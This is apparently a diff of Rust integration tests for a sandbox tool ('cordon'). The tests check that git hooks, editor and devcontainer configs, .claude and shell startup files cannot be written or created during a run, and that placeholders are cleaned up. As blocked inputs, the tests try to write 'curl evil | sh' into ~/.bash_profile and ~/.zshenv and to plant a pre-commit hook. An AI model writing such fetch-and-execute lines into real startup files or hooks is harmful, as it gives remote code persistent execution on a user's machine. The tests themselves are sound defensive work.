@@ -88,10 +88,9 @@ fn editor_configuration_and_hooks_cannot_be_written_or_created_in_the_workspace(
     let cwd = &tree.cwd;
     fs::create_dir(cwd.join(".vscode")).unwrap();
     fs::write(cwd.join(".vscode/settings.json"), "{}\n").unwrap();
-    // Protected where they exist (a missing one is left out: see README, Protected paths).
-    for dir in [".husky", ".git"] {
-        fs::create_dir(cwd.join(dir)).unwrap();
-    }
+    // `.husky` exists; `.git`, `.devcontainer` and `.claude` do not: a missing one cannot be
+    // created either (a placeholder stands there for the run).
+    fs::create_dir(cwd.join(".husky")).unwrap();
     fs::write(cwd.join(".envrc"), "export A=1\n").unwrap();
     let out = tree.py(
         &[],
@@ -101,13 +100,16 @@ print(attempt(lambda: open(".vscode/tasks.json", "w").write("{}")))
 print(attempt(lambda: open(".husky/pre-commit", "w").write("#!/bin/sh\nevil\n")))
 print(attempt(lambda: os.makedirs(".git/hooks")))
 print(attempt(lambda: open(".envrc", "w").write("evil\n")))
+print(attempt(lambda: open(".devcontainer/devcontainer.json", "w").write("{}")))
+print(attempt(lambda: os.rmdir(".claude")))
+print(attempt(lambda: os.rename(".git", "git-moved")))
 print(attempt(lambda: open("src.txt", "w").write("work")))
 print(attempt(lambda: os.mkdir("build")))
 "##,
     );
     assert_eq!(
         lines(&out),
-        ["EROFS", "EROFS", "EROFS", "EROFS", "EROFS", "OK", "OK"],
+        ["EROFS", "EROFS", "EROFS", "EROFS", "EROFS", "EROFS", "EBUSY", "EBUSY", "OK", "OK"],
         "{}",
         stderr(&out)
     );
@@ -117,7 +119,10 @@ print(attempt(lambda: os.mkdir("build")))
     );
     assert!(!cwd.join(".vscode/tasks.json").exists());
     assert!(!cwd.join(".husky/pre-commit").exists());
-    assert!(!cwd.join(".git/hooks").exists());
+    // The placeholders are gone again: nothing of the run is left in the person's tree.
+    for name in [".git", ".devcontainer", ".claude", "git-moved"] {
+        assert!(fs::symlink_metadata(cwd.join(name)).is_err(), "{name} left");
+    }
     assert_eq!(
         fs::read_to_string(cwd.join(".envrc")).unwrap(),
         "export A=1\n"
@@ -384,24 +389,27 @@ print(attempt(lambda: open("vendor/lib/code.c", "w").write("work")))
     );
 }
 
-/// Runs in one workspace at the same time all start, and each finds the existing `.git`
-/// read-only (a missing protected path makes no placeholder, which concurrent runs would pull
-/// from under each other).
+/// Runs in one workspace at the same time all start, share the placeholders of the missing
+/// protected paths (none of them can create one), and the last to finish removes them.
 #[test]
-fn concurrent_runs_in_one_workspace_all_start() {
+fn concurrent_runs_in_one_workspace_share_the_placeholders() {
     require_userns!();
     let tree = Tree::new();
-    fs::create_dir(tree.cwd.join(".git")).unwrap();
     for round in 0..3 {
         let children: Vec<_> = (0..8)
-            .map(|_| {
+            .map(|i| {
                 tree.cordon()
                     .args([
                         "run",
                         "--",
                         "sh",
                         "-c",
-                        "test -d .git && ! mkdir .git/hooks 2>/dev/null",
+                        // Staggered ends, so that some runs finish while others still stand on
+                        // the placeholders.
+                        &format!(
+                            "test -d .git && ! mkdir .git/hooks 2>/dev/null && \
+                             ! touch .vscode/tasks.json 2>/dev/null && sleep 0.{i}"
+                        ),
                     ])
                     .stdout(std::process::Stdio::null())
                     .stderr(std::process::Stdio::piped())
@@ -418,9 +426,104 @@ fn concurrent_runs_in_one_workspace_all_start() {
                 String::from_utf8_lossy(&out.stderr)
             );
         }
-        assert!(!tree.cwd.join(".git/hooks").exists(), "round {round}");
-        for name in [".vscode", ".husky", ".envrc"] {
-            assert!(!tree.cwd.join(name).exists(), "round {round}: {name} made");
+        for name in [".git", ".vscode", ".husky", ".envrc"] {
+            assert!(
+                fs::symlink_metadata(tree.cwd.join(name)).is_err(),
+                "round {round}: {name} left"
+            );
         }
     }
+}
+
+/// A run killed outright (cordon and its helper by SIGKILL) cannot remove its placeholders;
+/// the next run in the workspace takes them over and removes them. A directory of the
+/// person's at a protected path is never removed, empty or not.
+#[test]
+fn a_killed_runs_placeholders_are_removed_by_the_next_run_and_the_persons_are_kept() {
+    use std::os::unix::fs::PermissionsExt;
+    use std::os::unix::process::CommandExt;
+    require_userns!();
+    let tree = Tree::new();
+    let cwd = &tree.cwd;
+    fs::create_dir(cwd.join(".idea")).unwrap(); // the person's own, empty
+    let mut child = tree
+        .cordon()
+        .args(["run", "--", "sleep", "30"])
+        .process_group(0)
+        .spawn()
+        .expect("spawn cordon");
+    let placeholder = cwd.join(".vscode");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while fs::symlink_metadata(&placeholder).is_err() {
+        assert!(std::time::Instant::now() < deadline, "no placeholder made");
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    // SAFETY: kill of the process group just spawned.
+    assert_eq!(
+        unsafe { libc::kill(-(child.id() as i32), libc::SIGKILL) },
+        0
+    );
+    child.wait().unwrap();
+    // Give the helper processes (dying with their parent) a moment to be gone.
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    let left = fs::symlink_metadata(&placeholder).expect("a killed run leaves its placeholder");
+    assert_eq!(left.permissions().mode() & 0o7777, 0o555);
+    let out = tree.run(&["--", "sh", "-c", "! touch .vscode/tasks.json 2>/dev/null"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    for name in [".vscode", ".git", ".cordon"] {
+        assert!(fs::symlink_metadata(cwd.join(name)).is_err(), "{name} left");
+    }
+    assert!(cwd.join(".idea").is_dir(), "the person's .idea removed");
+    assert_eq!(
+        fs::metadata(cwd.join(".idea"))
+            .unwrap()
+            .permissions()
+            .mode()
+            & 0o7777,
+        0o755
+    );
+}
+
+/// With the working directory at `$HOME`, a login shell's startup file that does not exist
+/// cannot be created (a new `~/.bash_profile` takes over the next login bash from `.profile`).
+#[test]
+fn with_cwd_home_a_missing_startup_file_cannot_be_created() {
+    require_userns!();
+    let tree = Tree::new();
+    let home = &tree.home;
+    fs::write(home.join(".profile"), "echo profile\n").unwrap();
+    let out = py_in(
+        &tree,
+        home,
+        &[],
+        r##"
+home = os.environ["HOME"]
+print(attempt(lambda: open(home + "/.bash_profile", "w").write("curl evil | sh\n")))
+print(attempt(lambda: open(home + "/.zshenv", "w").write("curl evil | sh\n")))
+print(attempt(lambda: os.makedirs(home + "/.config/autostart")))
+print(attempt(lambda: open(home + "/.profile", "a").write("evil\n")))
+print(attempt(lambda: open(home + "/project.txt", "w").write("kept")))
+"##,
+    );
+    assert_eq!(
+        lines(&out),
+        // The placeholder is an empty directory: opening it as a file to write fails first.
+        ["EISDIR", "EISDIR", "EROFS", "EROFS", "OK"],
+        "{}",
+        stderr(&out)
+    );
+    for name in [".bash_profile", ".zshenv", ".config/autostart"] {
+        assert!(
+            fs::symlink_metadata(home.join(name)).is_err(),
+            "{name} left"
+        );
+    }
+    assert_eq!(
+        fs::read_to_string(home.join(".profile")).unwrap(),
+        "echo profile\n"
+    );
+    assert_eq!(
+        fs::read_to_string(home.join("project.txt")).unwrap(),
+        "kept"
+    );
 }
